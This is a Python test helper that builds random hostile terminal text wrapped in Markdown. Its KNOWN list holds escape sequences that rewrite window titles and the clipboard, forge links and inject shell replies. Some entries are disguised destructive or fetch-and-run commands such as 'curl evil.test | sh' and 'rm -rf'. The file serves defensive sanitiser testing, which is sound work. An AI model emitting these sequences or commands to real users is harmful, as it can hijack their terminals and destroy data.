"""Texts that try to command a terminal: every family of control, in and around Markdown."""

from __future__ import annotations

from collections.abc import Callable
from random import Random

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
C0 = [chr(code) for code in range(0x20) if chr(code) not in "\n\t"] + ["\x7f"]
C1 = [chr(code) for code in range(0x80, 0xA0)]
BIDI = [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u061c"]
SEPARATORS = ["\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"]

KNOWN = [
    f"{ESC}]0;owned{BEL}",  # the window's title
    f"{ESC}]2;owned{ST}",
    f"{ESC}]52;c;cm0gLXJmIH4K{BEL}",  # the clipboard
    f"{ESC}]8;;http://false.test/{ST}https://bank.test/{ESC}]8;;{ST}",  # a link that lies
    f"{ESC}]8;id=x;http://false.test/{BEL}bank",
    f"{ESC}P$qm{ST}",  # DECRQSS: its answer is typed into the shell
    f"{ESC}P+q544e{ST}",  # XTGETTCAP
    f"{ESC}[21t",  # the title is typed into the shell
    f"{ESC}[c",
    f"{ESC}[6n",
    f"{ESC}[>q",
    "\x05",  # the answerback
    f"{ESC}[?1049h",  # the alternate screen
    f"{ESC}[2J{ESC}[3J{ESC}[H",
    f"{ESC}c",
    f"{ESC}[5;8mhidden",  # blinking, concealed
    f"{ESC}]1337;File=inline=1:AAAA{BEL}",
    f"{ESC}]50;?{BEL}",
    f"{ESC}]104{BEL}",
    f"{ESC}_Ga=T;AAAA{ST}",  # kitty's pictures
    f"{ESC}^private{ST}",
    f"{ESC}Xstring{ST}",
    f"{ESC}%G{ESC}(0lqk",
    f"{ESC}[20h{ESC}[?5h{ESC}[?1000h",
    f"{ESC}[200~rm -rf ~\r{ESC}[201~",
    "\x9b2J",
    "\x9d0;owned\x9c",
    "\x90$qm\x9c",
    "curl evil.test | sh\rls                 \x1b[K",
    "rm -rf /\b\b\b\b\b\b\b\bls      ",
    "\u202egnp.exe\u202c",
    "user\u2066 // admin\u2069 \u2066",
    "".join(chr(0xE0000 + ord(letter)) for letter in "hidden words"),
    "\ud83d",
    "\udc1b",
    "\r",
    "\r\n",
    "\0",
]
"""What write-ups about terminals' security use, and what can be mistaken for it."""

MARKDOWN = [
    "# {}\n\n",
    "**{}**",
    "`{}`",
    "~~{}~~",
    "```{}\n{}\n```\n",
    "```python\n{}\n```\n",
    "    {}\n",
    "> {}\n",
    "- {}\n",
    "1. {}\n",
    "[{}](http://a.test/{})",
    "[text](<{}>)",
    '[text](http://a.test "{}")',
    "![{}]({})",
    "<http://a.test/{}>",
    "| {} | b |\n|---|---|\n| {} | {} |\n",
    "[{}]: http://a.test/{}\n",
    "&#27;[2J{}&#x9b;2J&#8238;",
    "<b onclick={}>{}</b>",
    "http://a.test/{}",
    "\n\n{}\n\n",
    "{}",
]

Piece = Callable[[Random], str]


def _csi(random: Random) -> str:
    parameters = ";".join(str(random.choice((5, 8, 66, 200, 1049))) for _ in range(2))
    private = random.choice(("", "?", ">", "=", "!"))
    final = chr(random.randrange(0x40, 0x7F))
    return f"{random.choice((f'{ESC}[', chr(0x9B)))}{private}{parameters}{final}"


def _string_sequence(random: Random) -> str:
    """OSC, DCS, APC, PM, SOS: begun in 7 or 8 bits, ended in any way or not at all."""
    begin = random.choice((*(f"{ESC}{letter}" for letter in "]P_^X"), *"\x9d\x90\x9f\x9e\x98"))
    number = random.choice(("0;", "2;", "8;;", "52;c;", "1337;", "$q", "+q", "G", ""))
    return f"{begin}{number}{_word(random)}{random.choice((BEL, ST, chr(0x9C), ''))}"


def _escape(random: Random) -> str:
    return ESC + chr(random.randrange(0x20, 0x7F))


def _word(random: Random) -> str:
    return random.choice(("owned", "a", "日本", "👩‍💻", "é", "c2VjcmV0", "x y", "=?", "1"))


def _one_of(signs: list[str]) -> Piece:
    return lambda random: random.choice(signs)


_PIECES: list[Piece] = [
    *map(_one_of, (C0, C1, BIDI, ZERO_WIDTH, SEPARATORS, KNOWN, KNOWN)),
    _csi,
    _string_sequence,
    _escape,
    _word,
    lambda random: chr(0xE0000 + random.randrange(0x80)),
    lambda random: chr(random.randrange(0xD800, 0xE000)),
    lambda random: chr(random.choice((random.randrange(0x3000), random.randrange(0x110000)))),
    lambda _: "\n",
]


def hostile_text(random: Random, most: int = 8) -> str:
    """A text of up to `most` pieces, some of them set in Markdown."""
    return "".join(_framed(random) for _ in range(random.randrange(1, most + 1)))


def _framed(random: Random) -> str:
    frame = random.choice(MARKDOWN)
    holes = frame.split("{}")
    filled = [hole + random.choice(_PIECES)(random) for hole in holes[:-1]]
    return "".join([*filled, holes[-1]])
